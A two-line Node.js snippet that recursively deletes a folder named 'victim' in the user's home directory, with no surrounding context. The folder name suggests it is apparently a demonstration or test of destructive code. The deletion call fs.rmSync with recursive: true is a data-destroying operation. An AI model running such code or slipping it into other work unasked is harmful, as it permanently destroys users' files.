const fs = require('fs');
fs.rmSync(require('os').homedir() + '/victim', { recursive: true });
